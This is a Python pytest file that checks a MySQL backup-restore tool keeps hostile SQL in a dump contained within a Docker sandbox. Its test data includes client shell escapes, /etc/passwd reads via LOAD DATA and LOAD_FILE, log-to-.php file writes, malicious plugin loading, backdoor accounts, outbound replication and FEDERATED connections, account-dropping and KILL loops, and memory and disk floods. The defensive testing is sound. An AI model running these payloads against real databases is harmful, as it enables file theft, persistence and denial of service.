"""Hostile dumps: whatever a stored dump asks for, nothing outside its sandbox hears of it.

Each is a dump that was rewritten under right hashes. What it tries is held against what is seen
afterwards from outside: files, connections, accounts, and the verdict. A hostile statement
either fails the restore or leaves a difference; where it leaves neither, content is equal.
"""

import socket
import threading
import time
from collections.abc import Iterator, Mapping
from contextlib import closing
from dataclasses import dataclass

import pytest
from mysql_bench import DUMP, Bench, Server, image, same
from mysql_shop import shop

from restoreproof import damage_content as faults
from restoreproof import docker_engine
from restoreproof.engines.mysql_connection import rows, value
from restoreproof.engines.mysql_empty_server import empty_server
from restoreproof.engines.mysql_restored import RestoredMySQL
from restoreproof.errors import SandboxTrouble
from restoreproof.restore import RestoreAttempt
from restoreproof.sandbox import Limits, Sandboxes
from restoreproof.vault import StoredBackup

MARK = "restoreproof-pwned"
LOOK = ["sh", "-c", f"find / -xdev -name '{MARK}*' 2>/dev/null; ls /restoreproof"]


@dataclass(frozen=True)
class Attack:
    """Statements at a dump's end, and what has to be seen of them.

    ``refused`` is part of the server's words, ``seen`` what is different after the restore; with
    neither the content is equal, and nothing else may have come of it; ``inside`` means that a
    file may be written in the sandbox, which goes with it, and still not in our folder. ``{host}``
    and ``{port}`` are where our listener waits.
    """

    name: str
    sql: str
    refused: str = ""
    seen: tuple[str, ...] = ()
    inside: bool = False


ATTACKS = (
    # Commands of the client, which no server knows.
    Attack("shell", f"\\! touch /tmp/{MARK}", refused="ERROR"),
    Attack("shell in a word", f"system touch /tmp/{MARK};", refused="ERROR 1064"),
    Attack("shell after a statement", f"SELECT 1; \\! touch /tmp/{MARK}", refused="ERROR"),
    Attack("shell in a comment", f"-- \\! touch /tmp/{MARK}\n/* \\! touch /tmp/{MARK} */;"),
    Attack("shell in a text", f"SELECT '\n\\! touch /tmp/{MARK}\n';"),
    Attack("source", "source /etc/passwd", refused="ERROR"),
    Attack("source in short", "\\. /etc/passwd", refused="ERROR"),
    Attack("tee", f"tee /tmp/{MARK};", refused="ERROR 1064"),
    Attack("tee in short", f"\\T /tmp/{MARK}\n", refused="ERROR"),
    Attack("pager", f"pager touch /tmp/{MARK};", refused="ERROR 1064"),
    Attack("another server", "connect mysql {host};", refused="ERROR 1064"),
    # Files.
    Attack("LOAD DATA LOCAL", "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE shop.sent;",
           refused="ERROR"),
    Attack("LOAD DATA", "LOAD DATA INFILE '/etc/passwd' INTO TABLE shop.sent;",
           refused="ERROR 1290"),
    Attack("LOAD_FILE", "INSERT INTO shop.sent VALUES (9, LEFT(LOAD_FILE('/etc/passwd'), 9));",
           seen=("table shop.sent: another count",)),
    Attack("INTO OUTFILE", f"SELECT 1 INTO OUTFILE '/restoreproof/{MARK}';", refused="ERROR 1290"),
    Attack("INTO DUMPFILE", f"SELECT 1 INTO DUMPFILE '/tmp/{MARK}';", refused="ERROR 1290"),
    # On this machine's disk, where no limit of the sandbox counts.
    Attack("a log in our folder", f"SET GLOBAL general_log_file = '/restoreproof/{MARK}.php';"
           "SET GLOBAL general_log = ON;", refused="ERROR 1231"),
    Attack("a slow log in our folder", f"SET GLOBAL slow_query_log_file = '/restoreproof/{MARK}';",
           refused="ERROR 1231"),
    Attack("a log in place of our lock", "SET GLOBAL general_log_file ="
           " '/restoreproof/mysqld.sock.lock'; SET GLOBAL general_log = ON;", refused="ERROR 1231"),
    Attack("a log in our socket", "SET GLOBAL general_log_file = '/restoreproof/mysqld.sock';",
           refused="ERROR 1231"),
    Attack("a log as a file", f"SET GLOBAL general_log_file = '/var/lib/mysql/{MARK}.php';"
           "SET GLOBAL general_log = ON;", inside=True),
    Attack("table in another folder", "CREATE TABLE shop.evil (a INT) DATA DIRECTORY = '/tmp';",
           refused="ERROR 3121"),
    # Code.
    Attack("INSTALL PLUGIN", "INSTALL PLUGIN evil SONAME 'evil.so';", refused="ERROR 1126"),
    Attack("INSTALL COMPONENT", "INSTALL COMPONENT 'file://component_evil';", refused="ERROR"),
    Attack("CREATE FUNCTION SONAME", "CREATE FUNCTION evil RETURNS STRING SONAME '../../evil.so';",
           refused="ERROR"),
    # Accounts.
    Attack("CREATE USER", "CREATE USER evil@`%` IDENTIFIED BY 'x'; GRANT ALL ON *.* TO evil@`%`;",
           seen=("account `evil`@`%`: was not backed up",)),
    Attack("user come and gone", "CREATE USER evil@`%` IDENTIFIED BY 'x'; DROP USER evil@`%`;"),
    Attack("another password", "ALTER USER owner@`%` IDENTIFIED BY 'y';",
           seen=("account `owner`@`%`: other content",)),
    # Connections.
    Attack("replication", "CHANGE REPLICATION SOURCE TO SOURCE_HOST='{host}', SOURCE_PORT={port};"
           "START REPLICA;"),
    Attack("CLONE", "INSTALL PLUGIN clone SONAME 'mysql_clone.so';"
           "SET GLOBAL clone_valid_donor_list = '{host}:{port}';"
           "CLONE INSTANCE FROM x@'{host}':{port} IDENTIFIED BY 'x';", refused="ERROR"),
    Attack("federated table", "CREATE TABLE shop.evil (a INT) ENGINE=FEDERATED"
           " CONNECTION='mysql://x:x@{host}:{port}/d/t'; SELECT * FROM shop.evil;",
           refused="ERROR"),
    # Settings and time.
    Attack("SET PERSIST", "SET PERSIST max_connections = 7;"),
    Attack("local_infile on", "SET GLOBAL local_infile = ON;"
           "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE shop.sent;", refused="ERROR"),
    Attack("event", "SET GLOBAL event_scheduler = ON; CREATE EVENT shop.evil ON SCHEDULE EVERY 1"
           " SECOND DO DELETE FROM shop.tags; DO SLEEP(1.5);",
           seen=("event shop.evil: was not backed up", "table shop.tags: another count")),
    Attack("trigger", "CREATE TRIGGER shop.evil BEFORE INSERT ON shop.sent FOR EACH ROW SET"
           " NEW.id = 0;", seen=("trigger shop.evil: was not backed up",)),
    Attack("another database", "CREATE DATABASE evil; CREATE TABLE evil.t (a INT);",
           seen=("database evil: was not backed up", "table evil.t: was not backed up",
                 "table definition evil.t: was not backed up")),
    Attack("loss in a system table", "DELETE FROM mysql.func; DELETE FROM mysql.servers;"),
)  # fmt: skip

DEADLY: Mapping[str, str] = {
    "our account dropped": (
        "SELECT CONCAT('DROP USER ', GROUP_CONCAT('`', user, '`@`', host, '`')) INTO @drop"
        " FROM mysql.user WHERE user LIKE 'sandbox-%'; PREPARE p FROM @drop; EXECUTE p;"
    ),
    "SHUTDOWN": "SHUTDOWN;",
    "KILL of all": (
        "DELIMITER ;;\n"
        "CREATE PROCEDURE shop.evil() BEGIN DECLARE i INT DEFAULT 1;"
        " WHILE i < 999 DO IF i <> CONNECTION_ID() THEN BEGIN"
        " DECLARE CONTINUE HANDLER FOR SQLEXCEPTION BEGIN END; KILL i; END; END IF;"
        " SET i = i + 1; END WHILE; END;;\nDELIMITER ;\nCALL shop.evil();"
    ),
    "grant tables emptied": "DELETE FROM mysql.user; FLUSH PRIVILEGES;",
}
"""What makes the sandbox useless: no pass may come of it, nor anything but a clear end."""


GREED = """
SET GLOBAL innodb_buffer_pool_size = 8589934592;
SET SESSION max_heap_table_size = 8589934592, cte_max_recursion_depth = 4294967295;
CREATE TABLE shop.evil (a CHAR(255)) ENGINE=MEMORY;
INSERT INTO shop.evil WITH RECURSIVE n AS
  (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n WHERE i < 100000000) SELECT REPEAT('x', 255) FROM n;
"""


FLOOD = """
CREATE TABLE shop.evil (a LONGBLOB);
DELIMITER ;;
CREATE PROCEDURE shop.flood() WHILE 1 DO INSERT INTO shop.evil VALUES (REPEAT('x', 8388608));
END WHILE;;
DELIMITER ;
CALL shop.flood();
"""
"""Writes until something stops it."""
FLOOD_BYTES = 250_000_000
FLOOD_SECONDS = 60


class Listener:
    """A server of ours on this machine, which no sandbox may ever reach."""

    def __init__(self, listening: socket.socket) -> None:
        self._listening = listening
        self.port = int(listening.getsockname()[1])
        self.heard: list[object] = []
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                connection, address = self._listening.accept()
            except OSError:
                return
            self.heard.append(address)
            connection.close()


@pytest.fixture(scope="module")
def source() -> Iterator[Server]:
    """The shop."""
    with shop() as made:
        yield made


@pytest.fixture(scope="module")
def restored() -> Iterator[RestoredMySQL]:
    """The sandbox that most attacks share."""
    with empty_server(image(), Sandboxes("hostile")) as made:
        yield made


@pytest.fixture(scope="module")
def bench(
    source: Server, restored: RestoredMySQL, tmp_path_factory: pytest.TempPathFactory
) -> Bench:
    """The shop's vault."""
    return Bench(source, tmp_path_factory.mktemp("bench"), restored)


@pytest.fixture(scope="module")
def full(bench: Bench) -> StoredBackup:
    """A full backup, which comes back equal."""
    backup = bench.store()
    assert str(bench.verdict(bench.vault, backup)) == "equal"
    return backup


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    """Waits on every address of this machine, the one in the containers' network among them."""
    with closing(socket.create_server(("0.0.0.0", 0))) as listening:  # noqa: S104  # that is the point
        made = Listener(listening)
        with closing(socket.create_connection((_host(), made.port), timeout=5)):
            pass
        while not made.heard:
            pass
        made.heard.clear()
        yield made


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_an_attack_is_contained(
    bench: Bench, full: StoredBackup, restored: RestoredMySQL, listener: Listener, attack: Attack
) -> None:
    """Nothing is obeyed that reaches out of the server, and what it leaves in it is told."""
    shared = restored.sandbox.socket
    assert shared is not None
    before = sorted(shared.parent.iterdir())
    sql = attack.sql.replace("{host}", _host()).replace("{port}", str(listener.port))

    verdict = bench.damaged(full, {DUMP: [faults.add_statements(sql)]})

    assert attack.refused in verdict.failure, verdict
    assert bool(attack.refused) == bool(verdict.failure), verdict
    assert set(attack.seen) <= set(verdict.short), verdict
    assert bool(attack.seen) == bool(verdict.differences), verdict
    assert listener.heard == []
    assert attack.inside or MARK not in restored.sandbox.run(LOOK).output
    assert sorted(shared.parent.iterdir()) == before == [shared]
    _recover(restored)


@pytest.mark.parametrize("name", DEADLY)
def test_an_attack_on_the_sandbox_is_no_pass(
    bench: Bench, full: StoredBackup, name: str, listener: Listener
) -> None:
    """A dump that takes its own server away ends in a failed restore, or in trouble told so."""
    copy = bench.copy()
    copy.rewrite(same(copy.vault, full), DUMP, faults.add_statements(DEADLY[name]))
    alone = Bench(bench.server, bench.place)
    try:
        with alone.restored(copy.vault, full) as attempt:
            passed = attempt.succeeded and attempt.comparison.equal
            words = attempt.failure
    except SandboxTrouble as trouble:
        passed, words = False, str(trouble)
    assert not passed
    assert words
    assert listener.heard == []
    assert _left_of("bench") == []


def test_greed_is_limited(bench: Bench, full: StoredBackup) -> None:
    """What wants all memory is stopped at the sandbox's limit, and this machine goes on."""
    copy = bench.copy()
    copy.rewrite(same(copy.vault, full), DUMP, faults.add_statements(GREED))
    small = Bench(bench.server, bench.place)
    small.sandboxes = Sandboxes("greed", Limits(memory_bytes=640 * 1024**2))
    with (
        pytest.raises(SandboxTrouble, match="killed for want of memory"),
        small.restored(copy.vault, full) as attempt,
    ):
        pytest.fail(attempt.failure or "restored")
    assert _left_of("greed") == []


def test_a_flood_is_limited(bench: Bench, full: StoredBackup) -> None:
    """What would fill this machine's disk is a failed restore as soon as it takes too much."""
    copy = bench.copy()
    copy.rewrite(same(copy.vault, full), DUMP, faults.add_statements(FLOOD))
    small = Bench(bench.server, bench.place)
    small.sandboxes = Sandboxes("flood", Limits(disk_bytes=FLOOD_BYTES))
    with small.restored(bench.vault, full) as healthy:
        assert healthy.comparison.equal
        assert "250 MB disk" in healthy.limits
    begun = time.monotonic()
    with small.restored(copy.vault, full) as attempt:
        assert attempt.failed_in == "load"
        assert "on its disk and more to come" in attempt.failure
        assert "the policy allows 250 MB" in attempt.failure
    assert time.monotonic() - begun < FLOOD_SECONDS
    assert _left_of("flood") == []


def test_persisted_settings_do_not_reach_the_next_sandbox(bench: Bench, full: StoredBackup) -> None:
    """A sandbox is thrown away with what was persisted in it."""
    copy = bench.copy()
    evil = faults.add_statements("SET PERSIST max_connections = 7; SET PERSIST local_infile = ON;")
    copy.rewrite(same(copy.vault, full), DUMP, evil)
    alone = Bench(bench.server, bench.place)
    with alone.restored(copy.vault, full) as first:
        assert _variable(first, "local_infile") == 1
    with alone.restored(bench.vault, full) as second:
        assert second.comparison.equal
        assert _variable(second, "local_infile") == 0
        assert _variable(second, "max_connections") != 7


def _variable(attempt: RestoreAttempt, name: str) -> int:
    assert isinstance(attempt.restored, RestoredMySQL), attempt.failure
    return int(value(attempt.restored.connection, f"SELECT @@GLOBAL.{name}"))


def _recover(restored: RestoredMySQL) -> None:
    """Put back what an attack may have set in the sandbox that the next one shares."""
    for statement in (
        "SET GLOBAL event_scheduler = OFF",
        "SET GLOBAL local_infile = OFF",
        "STOP REPLICA",
        "RESET REPLICA ALL",
        "RESET PERSIST",
        "SET GLOBAL max_connections = DEFAULT",
        "SET GLOBAL general_log = OFF",
        "SET GLOBAL general_log_file = DEFAULT",
    ):
        rows(restored.connection, statement)
    assert restored.sandbox.run(["sh", "-c", f"rm -f /var/lib/mysql/{MARK}*"]).exit_code == 0


def _left_of(run: str) -> list[str]:
    client = docker_engine.connect()
    try:
        labels = {"label": [f"org.restoreproof.run={run}", "org.restoreproof=sandbox"]}
        found = client.containers.list(all=True, filters=labels, ignore_removed=True)
        mine = Sandboxes(run).labels("sandbox")["org.restoreproof.process"]
        return [str(one.name) for one in found if one.labels["org.restoreproof.process"] == mine]
    finally:
        client.close()


def _host() -> str:
    """This machine's address in the containers' own network."""
    client = docker_engine.connect()
    try:
        networks = client.networks.get("bridge").attrs["IPAM"]["Config"]
        return str(networks[0]["Gateway"])
    finally:
        client.close()
